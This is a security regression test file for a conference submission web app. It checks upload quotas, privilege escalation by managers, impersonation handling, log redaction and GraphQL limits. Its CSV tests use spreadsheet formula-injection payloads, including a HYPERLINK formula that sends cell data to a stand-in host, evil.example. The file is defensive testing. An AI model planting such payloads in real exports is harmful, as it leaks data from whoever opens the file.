import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { eq, sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { buildTestApp, csrf, logInAs, multipart, postGraphql, refusalOf } from './helper';
import { seedDemoAccounts } from '../../server/seed';
import { affiliations, awards, presentationApplications, presentations, submissionSettings, uploads, users } from '../../server/db/schema';
import { purgeExpired } from '../../server/plugins/housekeeping';
import strictSubmission from '../../fixtures/submission/strict-society.json';
import type { SubmissionSettings } from '../../schemas/submission';
import { fakePdf, jpegOf, pdfOf } from '../support/files';

/**
 * The findings of the attack run on the new surfaces (issue 62), each as the attacker tried it:
 * uploads that fill everyone's budget, a manager taking over another, impersonation that comes
 * back, formulas in CSVs, other people's upload ids, changes to accepted abstracts, a settings
 * save that failed with a 500, GraphQL caller errors answered as server errors, and file checks
 * that read only the first bytes.
 */

type Who = 'visitor' | 'attendee' | 'member' | 'manager' | 'admin';
const passwords: Record<Exclude<Who, 'visitor'>, string> = {
  attendee: 'Attendee-2026!',
  member: 'Member-2026!',
  manager: 'Manager-2026!',
  admin: 'Admin-2026!',
};

/** One app with the demo accounts signed in, and calls made as each of them. */
async function world(conference: 'demo' | 'strict-society', overrides: Parameters<typeof buildTestApp>[0] = {}) {
  const app = await buildTestApp({ conference, demo: true, passwordHashCost: 'test', loginRateLimit: 1e6, uploadRateLimit: 1e6, ...overrides });
  await seedDemoAccounts(app.db, conference, 'test');
  const headers = await csrf(app);
  const cookies: Record<Who, string> = { visitor: '', attendee: '', member: '', manager: '', admin: '' };
  const ids: Record<Who, number> = { visitor: 0, attendee: 0, member: 0, manager: 0, admin: 0 };
  for (const who of Object.keys(passwords) as Exclude<Who, 'visitor'>[]) {
    cookies[who] = await logInAs(app, headers, `${who}@example.com`, passwords[who]);
    ids[who] = (
      await app.db
        .select({ id: users.id })
        .from(users)
        .where(eq(users.email, `${who}@example.com`))
    )[0]!.id;
  }
  const cookieOf = (who: Who) => [headers.cookie, cookies[who]].filter(Boolean).join('; ');
  const call = (who: Who, method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) =>
    app.inject({
      method,
      url,
      ...(payload ? { payload } : {}),
      headers: { ...headers, ...(payload ? { 'content-type': 'application/json' } : {}), cookie: cookieOf(who) },
    });
  const gql = (who: Who, query: string, variables?: object) => postGraphql(app, headers, cookieOf(who), query, variables);
  const upload = async (who: Who, field: string, bytes: Uint8Array, query = '') => {
    const { payload, contentType } = await multipart([['file', { name: `${field}.bin`, bytes }]]);
    return app.inject({
      method: 'POST',
      url: `/web_api/presentation_applications/files?field=${field}&kind=oral${query}`,
      payload,
      headers: { ...headers, cookie: cookieOf(who), 'content-type': contentType },
    });
  };
  const auditLog = async () =>
    (await call('admin', 'GET', '/web_api/mng/audit_log?per=100')).json<{
      entries: { action: string; actorEmail: string; targetEmail: string | null; detail: Record<string, unknown> }[];
    }>().entries;
  return { app, headers, cookies, ids, cookieOf, call, gql, upload, auditLog };
}
type World = Awaited<ReturnType<typeof world>>;

const DAY = 86_400_000;
/** The strict society's submission periods, moved around now so the tests do not age. */
async function setPeriod(app: FastifyInstance, open: boolean) {
  const settings = structuredClone(strictSubmission) as SubmissionSettings;
  for (const kind of Object.values(settings.kinds)) {
    kind!.proposalStartAt = new Date(Date.now() - (open ? DAY : 3 * DAY)).toISOString();
    kind!.proposalEndAt = new Date(Date.now() + (open ? DAY : -2 * DAY)).toISOString();
  }
  await app.db.update(submissionSettings).set({ value: settings }).where(eq(submissionSettings.conferenceId, 'strict-society'));
}

describe('uploads (finding 1, finding 5 and the content checks)', () => {
  let w: World;
  const MB = 1024 * 1024;
  beforeAll(async () => {
    w = await world('strict-society', { uploadHourlyBytes: 3 * MB, uploadAccountHourlyBytes: 1 * MB });
    await setPeriod(w.app, true);
  }, 60_000);
  afterAll(() => w.app.close());

  it('charges nothing for a refused file: junk "PDFs" over the whole budget leave others uploading', async () => {
    const junk = new Uint8Array(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(900 * 1024, 0x41)]));
    for (let i = 0; i < 5; i += 1) expect((await w.upload('attendee', 'abstractPdf', junk)).statusCode).toBe(422);
    const valid = await w.upload('member', 'abstractPdf', pdfOf(400 * 1024));
    expect(valid.statusCode, valid.body).toBe(201);
  });

  it("gives each account its own share, so one cannot use up everyone's", async () => {
    const file = pdfOf(400 * 1024);
    expect((await w.upload('attendee', 'abstractPdf', file)).statusCode).toBe(201);
    expect((await w.upload('attendee', 'abstractPdf', file)).statusCode).toBe(201);
    const third = await w.upload('attendee', 'abstractPdf', file);
    expect(third.statusCode).toBe(429);
    expect(third.json()).toMatchObject({
      message: expect.stringContaining('1MB'),
      messageEn: "You have used this hour's upload allowance (1 MB). Please try again later",
    });
    expect((await w.upload('member', 'abstractPdf', file)).statusCode).toBe(201);
  });

  it('hands out upload ids that follow no sequence', async () => {
    const app = await buildTestApp({ conference: 'strict-society', demo: true, passwordHashCost: 'test', uploadRateLimit: 1e6 });
    try {
      await seedDemoAccounts(app.db, 'strict-society', 'test');
      await setPeriod(app, true);
      const headers = await csrf(app);
      const cookie = `${headers.cookie}; ${await logInAs(app, headers, 'member@example.com', passwords.member)}`;
      const ids: number[] = [];
      for (let i = 0; i < 6; i += 1) {
        const { payload, contentType } = await multipart([['file', { name: 'a.pdf', bytes: pdfOf() }]]);
        const response = await app.inject({
          method: 'POST',
          url: '/web_api/presentation_applications/files?field=abstractPdf&kind=oral',
          payload,
          headers: { ...headers, cookie, 'content-type': contentType },
        });
        ids.push(response.json<{ file: { id: number } }>().file.id);
      }
      const steps = ids.slice(1).map((id, i) => id - ids[i]!);
      expect(steps.filter((step) => step === 1).length).toBeLessThan(2);
    } finally {
      await app.close();
    }
  });

  it("refuses a draft naming another account's upload, and never shows that file", async () => {
    const others = (await w.upload('member', 'abstractPdf', pdfOf())).json<{ file: { id: number } }>().file.id;
    const refused = await w.call('manager', 'GET', '/web_api/presentation_applications');
    expect(refused.statusCode).toBe(200);
    const draft = await w.call('attendee', 'POST', '/web_api/presentation_applications', {
      kind: 'oral',
      action: 'draft',
      data: { title: '下書き', abstractPdf: others },
    });
    expect(draft.statusCode).toBe(422);
    expect(draft.json().errors).toEqual([expect.objectContaining({ field: 'abstractPdf', messageEn: expect.stringMatching(/not found/) })]);
    expect(draft.body).not.toContain('abstractPdf.bin');
  });

  it('decodes images and parses PDFs: a 41-byte JPEG header or a PDF without pages is refused', async () => {
    const header = jpegOf(1200, 1200).subarray(0, 41);
    const fake = await w.upload('member', 'graphicalAbstract', header);
    expect(fake.statusCode).toBe(422);
    expect(fake.json().errors[0]).toMatchObject({ field: 'graphicalAbstract' });
    const truncated = jpegOf(1200, 1200);
    expect((await w.upload('member', 'graphicalAbstract', truncated.subarray(0, Math.floor(truncated.length / 2)))).statusCode).toBe(422);
    expect((await w.upload('member', 'abstractPdf', fakePdf)).json().errors[0]).toMatchObject({ field: 'abstractPdf', messageEn: 'Choose a PDF file' });
    expect((await w.upload('member', 'graphicalAbstract', jpegOf(1200, 1200))).statusCode).toBe(201);
  });

  it('refuses uploads outside the application period, and into final or accepted applications', async () => {
    const mine = await w.call('member', 'POST', '/web_api/presentation_applications', { kind: 'oral', action: 'draft', data: { title: '期間外' } });
    const id = mine.json<{ application: { id: number } }>().application.id;
    await setPeriod(w.app, false);
    const outside = await w.upload('member', 'abstractPdf', pdfOf(), `&applicationId=${id}`);
    expect(outside.statusCode).toBe(403);
    expect(outside.json().messageEn).toBe('It is currently outside the application period');
    // A manager still uploads for the presenter, and the log says so.
    expect((await w.upload('manager', 'abstractPdf', pdfOf(), `&applicationId=${id}`)).statusCode).toBe(201);
    expect((await w.auditLog())[0]).toMatchObject({ action: 'applicationFileForPresenter', actorEmail: 'manager@example.com', detail: { applicationId: id } });
    await setPeriod(w.app, true);
    await w.app.db.update(presentationApplications).set({ isFinal: true }).where(eq(presentationApplications.id, id));
    expect((await w.upload('member', 'abstractPdf', pdfOf(), `&applicationId=${id}`)).json()).toMatchObject({
      messageEn: 'The abstract is final and cannot be modified',
    });
    const [presentation] = await w.app.db.select({ id: presentations.id }).from(presentations).limit(1);
    await w.app.db.update(presentationApplications).set({ isFinal: false, presentationId: presentation!.id }).where(eq(presentationApplications.id, id));
    const accepted = await w.upload('member', 'abstractPdf', pdfOf(), `&applicationId=${id}`);
    expect(accepted.statusCode).toBe(409);
    expect(accepted.json().messageEn).toMatch(/accepted into the program/);
  });

  it('deletes abstract files that no application names after a day, and keeps those named', async () => {
    const kept = (await w.upload('member', 'abstractPdf', pdfOf())).json<{ file: { id: number } }>().file.id;
    const stray = (await w.upload('member', 'abstractPdf', pdfOf())).json<{ file: { id: number } }>().file.id;
    expect(
      (await w.call('member', 'POST', '/web_api/presentation_applications', { kind: 'oral', action: 'draft', data: { title: '添付あり', abstractPdf: kept } }))
        .statusCode,
    ).toBe(201);
    const soon = await purgeExpired(w.app.db, w.app.config, new Date(Date.now() + 60_000));
    expect(soon.applicationFiles).toBe(0);
    await purgeExpired(w.app.db, w.app.config, new Date(Date.now() + DAY + 60_000));
    const left = new Set((await w.app.db.select({ id: uploads.id }).from(uploads)).map((row) => row.id));
    expect(left.has(kept)).toBe(true);
    expect(left.has(stray)).toBe(false);
  });
});

describe('accepted abstracts (finding 6)', () => {
  let w: World;
  beforeAll(async () => {
    w = await world('strict-society');
    await setPeriod(w.app, true);
  }, 60_000);
  afterAll(() => w.app.close());

  it('are locked for everyone once in the program: a save is refused and nothing changes', async () => {
    const created = (
      await w.call('member', 'POST', '/web_api/presentation_applications', { kind: 'oral', action: 'draft', data: { title: '採択済み' } })
    ).json<{ application: { id: number; version: number } }>().application;
    const [presentation] = await w.app.db.select({ id: presentations.id }).from(presentations).limit(1);
    await w.app.db
      .update(presentationApplications)
      .set({ status: 'presenter_submit', presentationId: presentation!.id })
      .where(eq(presentationApplications.id, created.id));
    for (const who of ['member', 'manager'] as const) {
      const save = await w.call(who, 'PUT', `/web_api/presentation_applications/${created.id}`, {
        action: 'draft',
        version: created.version,
        data: { title: '書き換え' },
      });
      expect(save.statusCode).toBe(409);
      expect(save.json()).toMatchObject({ message: expect.stringContaining('採択'), messageEn: expect.stringContaining('accepted into the program') });
    }
    const [row] = await w.app.db.select().from(presentationApplications).where(eq(presentationApplications.id, created.id));
    expect(row).toMatchObject({ status: 'presenter_submit', data: { title: '採択済み' } });
  });
});

describe('managers and admins (findings 2 and 3)', () => {
  let w: World;
  let other: number;
  beforeAll(async () => {
    w = await world('demo');
    const [manager] = await w.app.db.select().from(users).where(eq(users.id, w.ids.manager));
    [{ id: other }] = (await w.app.db
      .insert(users)
      .values({
        conferenceId: 'demo',
        email: 'second.manager@example.com',
        passwordHash: manager!.passwordHash,
        role: 'manager',
        nameSei: 'Second',
        nameMei: 'Manager',
        isTermAgreed: true,
        isPolicyAgreed: true,
      })
      .returning({ id: users.id })) as [{ id: number }];
  }, 60_000);
  afterAll(() => w.app.close());

  it.each([
    ['demote them', () => `mutation { setUserRole(id: ${other}, role: manager, granted: false) { id } }`],
    ['give them another role', () => `mutation { setUserRole(id: ${other}, role: reviewer, granted: true) { id } }`],
    ['change their e-mail', () => `mutation { changeUserEmail(id: ${other}, email: "taken@example.com", emailConfirmation: "taken@example.com") { id } }`],
    ['lock them', () => `mutation { setUserLocked(id: ${other}, locked: true) { id } }`],
  ])('refuses a manager who tries to %s, whatever came before', async (_name, mutation) => {
    expect(refusalOf(await w.gql('manager', mutation()))).toMatchObject({ code: 'FORBIDDEN', messageEn: 'Only admins can do this' });
    const [row] = await w.app.db.select().from(users).where(eq(users.id, other));
    expect(row).toMatchObject({ role: 'manager', email: 'second.manager@example.com', lockedAt: null, isReviewable: false });
  });

  it('lets only an admin make or unmake a manager, and logs it', async () => {
    expect(refusalOf(await w.gql('manager', `mutation { setUserRole(id: ${w.ids.attendee}, role: manager, granted: true) { id } }`))?.code).toBe('FORBIDDEN');
    expect((await w.gql('admin', `mutation { setUserRole(id: ${other}, role: manager, granted: false) { roles } }`)).data!.setUserRole.roles).toEqual([
      'participant',
    ]);
    expect((await w.auditLog())[0]).toMatchObject({
      action: 'roleRemove',
      actorEmail: 'admin@example.com',
      targetEmail: 'second.manager@example.com',
      detail: { role: 'manager' },
    });
    expect((await w.gql('admin', `mutation { setUserRole(id: ${other}, role: manager, granted: true) { roles } }`)).data!.setUserRole.roles).toContain(
      'manager',
    );
  });

  const me = async (who: Who) =>
    (await w.call(who, 'GET', '/web_api/user_common_resources/optional_me')).json<{ user: { email: string }; impersonator: { email: string } | null }>();

  it.each([['made a manager', `role: manager, granted: true`, 'targetPromoted', `role: manager, granted: false`]])(
    'ends an impersonation for good when the user is %s, and logs why',
    async (_name, change, reason, undo) => {
      expect((await w.call('manager', 'POST', '/web_api/mng/impersonation', { userId: w.ids.member })).statusCode).toBe(200);
      expect((await me('manager')).user.email).toBe('member@example.com');
      await w.gql('admin', `mutation { setUserRole(id: ${w.ids.member}, ${change}) { id } }`);
      expect(await me('manager')).toMatchObject({ user: { email: 'manager@example.com' }, impersonator: null });
      expect((await w.auditLog())[1]).toMatchObject({
        action: 'impersonationEnd',
        actorEmail: 'manager@example.com',
        targetEmail: 'member@example.com',
        detail: { reason },
      });
      expect((await w.call('manager', 'DELETE', '/web_api/impersonation')).json()).toEqual({ ended: false });
      await w.gql('admin', `mutation { setUserRole(id: ${w.ids.member}, ${undo}) { id } }`);
      expect(await me('manager')).toMatchObject({ user: { email: 'manager@example.com' }, impersonator: null });
    },
  );

  it('ends an impersonation for good when the user is locked, and logs why', async () => {
    await w.call('manager', 'POST', '/web_api/mng/impersonation', { userId: w.ids.attendee });
    expect((await me('manager')).user.email).toBe('attendee@example.com');
    await w.gql('admin', `mutation { setUserLocked(id: ${w.ids.attendee}, locked: true) { id } }`);
    expect((await w.auditLog()).find((entry) => entry.action === 'impersonationEnd')).toMatchObject({
      targetEmail: 'attendee@example.com',
      detail: { reason: 'targetLocked' },
    });
    await w.gql('admin', `mutation { setUserLocked(id: ${w.ids.attendee}, locked: false) { id } }`);
    expect((await me('manager')).user.email).toBe('manager@example.com');
  });

  it('ends, and logs, an impersonation that a change made behind the console broke', async () => {
    await w.call('manager', 'POST', '/web_api/mng/impersonation', { userId: w.ids.member });
    await w.app.db.update(users).set({ role: 'manager' }).where(eq(users.id, w.ids.member));
    expect((await me('manager')).user.email).toBe('manager@example.com');
    await w.app.db.update(users).set({ role: 'attendee' }).where(eq(users.id, w.ids.member));
    expect((await me('manager')).user.email).toBe('manager@example.com');
    expect((await w.auditLog())[0]).toMatchObject({ action: 'impersonationEnd', targetEmail: 'member@example.com', detail: { reason: 'targetPromoted' } });
  });
});

describe('CSV exports (finding 4)', () => {
  let w: World;
  beforeAll(async () => {
    w = await world('demo');
  }, 60_000);
  afterAll(() => w.app.close());

  const leading = ['=', '+', '-', '@', '\t', '\r', '＝'];

  it.each(leading.map((char) => [JSON.stringify(char), char]))('writes a cell beginning with %s as text in users.csv', async (_name, char) => {
    const payload = `${char}HYPERLINK("https://evil.example/?"&A1)`;
    await w.app.db.update(users).set({ nameSei: payload, department: payload, rank: payload }).where(eq(users.id, w.ids.member));
    await w.app.db.update(affiliations).set({ name: payload }).where(eq(affiliations.userId, w.ids.member));
    const response = await w.call('manager', 'GET', '/web_api/mng/users.csv?lang=en');
    const rows = parse(response.body, { bom: true, columns: true }) as Record<string, string>[];
    const row = rows.find((candidate) => candidate['E-mail'] === 'member@example.com')!;
    for (const column of ['Name', 'Department', 'Rank']) expect(row[column], column).toMatch(/^'/);
    for (const cell of Object.values(row)) expect(/^[=+\-@\t\r＝]/.test(cell), cell).toBe(false);
  });

  it('writes award names and titles beginning with a formula character as text in evaluation_results.csv', async () => {
    const [presentation] = await w.app.db.select({ id: presentations.id }).from(presentations).where(eq(presentations.conferenceId, 'demo')).limit(1);
    await w.app.db.update(presentations).set({ name: '=1+1' }).where(eq(presentations.id, presentation!.id));
    await w.app.db.insert(awards).values({ presentationId: presentation!.id, name: '@SUM(A1)', nameEn: '+cmd' });
    const body = (await w.call('manager', 'GET', '/web_api/mng/evaluation_results.csv?lang=en')).body;
    const cells = (parse(body, { bom: true }) as string[][]).flat();
    expect(cells).toEqual(expect.arrayContaining(["'=1+1"]));
    for (const cell of cells) expect(/^[=+@\t\r]/.test(cell), cell).toBe(false);
  });
});

describe('settings and logs (finding 7)', () => {
  it('refuses removing a keyword the program uses with a 409 naming the presentations, and logs no query parameters', async () => {
    const lines: string[] = [];
    const app = await buildTestApp(
      { conference: 'demo', demo: true, passwordHashCost: 'test', logLevel: 'info' },
      { logger: true, logStream: { write: (line) => void lines.push(line) } },
    );
    try {
      await seedDemoAccounts(app.db, 'demo', 'test');
      const headers = await csrf(app);
      const cookie = `${headers.cookie}; ${await logInAs(app, headers, 'manager@example.com', passwords.manager)}`;
      const current = (await app.inject({ url: '/web_api/mng/settings/keywords', headers: { cookie } })).json<{
        version: number;
        value: { categories: { keywords: { id: number }[] }[] };
      }>();
      const categories = current.value.categories.map((category) => ({ ...category, keywords: category.keywords.slice(1) }));
      const save = await app.inject({
        method: 'PUT',
        url: '/web_api/mng/settings/keywords',
        headers: { ...headers, cookie, 'content-type': 'application/json' },
        payload: { baseVersion: current.version, value: { categories } },
      });
      expect(save.statusCode).toBe(409);
      expect(save.json().messageEn).toMatch(/^The keyword ".+" is used by presentations \([0-9A-Z-]+(, [0-9A-Z-]+)*(, …)?\) and cannot be removed/);
      expect(lines.filter((line) => line.includes('"level":50'))).toEqual([]);
      // A query that fails with its values in its message, logged as the error handler and a careless caller would.
      const failure = await app.db.execute(sql`select ${'secret-value-123'}::int`).then(
        () => undefined,
        (error: Error) => error,
      );
      expect(failure?.message).toContain('secret-value-123');
      app.log.error({ err: failure }, 'request failed');
      app.log.error(failure);
      const failed = lines.filter((line) => line.includes('"level":50'));
      expect(failed.length).toBeGreaterThan(0);
      for (const line of failed) expect(line).not.toContain('secret-value-123');
    } finally {
      await app.close();
    }
  });
});

describe('GraphQL caller mistakes (finding 8)', () => {
  let w: World;
  beforeAll(async () => {
    w = await world('demo');
  }, 60_000);
  afterAll(() => w.app.close());

  it.each([
    ['JSON read as a ready-made document', '{"kind":"Document","definitions":[]}', 'Send the query as GraphQL text'],
    [
      'two operations without operationName',
      'query A { programRooms { id } } query B { programRooms { id } }',
      'The document holds several operations: name the one to run in operationName',
    ],
  ])('answers %s by GET with a 400 that names it', async (_name, query, messageEn) => {
    const response = await w.app.inject({ url: `/graphql?query=${encodeURIComponent(query)}`, headers: { cookie: w.cookieOf('member') } });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', messageEn });
  });

  it('answers a NUL inside a GraphQL string literal with a 400 before the database sees it', async () => {
    const response = await w.app.inject({
      method: 'POST',
      url: '/graphql',
      headers: { ...w.headers, cookie: w.cookieOf('member'), 'content-type': 'application/json' },
      payload: { query: '{ oralPresentations(q: "a\\u0000b") { metadata { totalCount } } }' },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', message: '使用できない文字（NUL）が含まれています' });
  });

  it('lists at most two full pages of presentations in one request, over all its aliases', async () => {
    const aliases = (count: number) =>
      `{ ${Array.from({ length: count }, (_, i) => `a${i}: oralPresentations(per: 100, page: ${i + 1}) { metadata { totalCount } }`).join(' ')} }`;
    expect((await w.gql('member', aliases(2))).errors).toBeUndefined();
    expect(refusalOf(await w.gql('member', aliases(3)))).toMatchObject({
      code: 'BAD_USER_INPUT',
      messageEn: 'One request may list at most 200 presentations. Ask for them a page at a time',
    });
  });

  it("tells attendees who wrote a presentation through its authors, not the submitter's account or application", async () => {
    const [row] = await w.app.db.select({ id: presentations.id }).from(presentations).where(eq(presentations.conferenceId, 'demo')).limit(1);
    await w.app.db.update(presentations).set({ userId: w.ids.attendee }).where(eq(presentations.id, row!.id));
    const query = `{ presentation(id: ${row!.id}) { userId presentationApplicationId user { id } } }`;
    expect((await w.gql('member', query)).data!.presentation).toEqual({ userId: null, presentationApplicationId: null, user: null });
    expect((await w.gql('manager', query)).data!.presentation).toMatchObject({ userId: w.ids.attendee, user: { id: w.ids.attendee } });
  });
});
